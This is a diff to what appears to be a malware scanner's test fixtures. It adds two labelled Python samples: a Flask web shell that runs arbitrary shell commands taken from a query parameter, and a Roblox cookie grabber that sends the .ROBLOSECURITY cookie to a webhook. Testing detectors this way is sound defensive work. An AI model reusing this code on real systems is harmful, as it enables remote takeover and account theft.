@@ -222,6 +222,28 @@ multiprocessing.Process(target=exec, args=(payload,)).start()
 `,
   },
   {
+    name: 'a Flask web shell',
+    least: 'high',
+    rule: 'reverse-shell',
+    source: `import subprocess
+from flask import Flask, request
+app = Flask(__name__)
+@app.route("/x")
+def x():
+    return subprocess.check_output(request.args.get("c"), shell=True)
+`,
+  },
+  {
+    name: 'a Roblox cookie grabber',
+    least: 'high',
+    rule: 'credential-access',
+    source: `import browser_cookie3, requests
+for cookie in browser_cookie3.chrome(domain_name="roblox.com"):
+    if cookie.name == ".ROBLOSECURITY":
+        requests.post(hook, data={"content": cookie.value})
+`,
+  },
+  {
     name: '/etc/shadow sent over a socket',
     least: 'high',
     rule: 'credential-access',
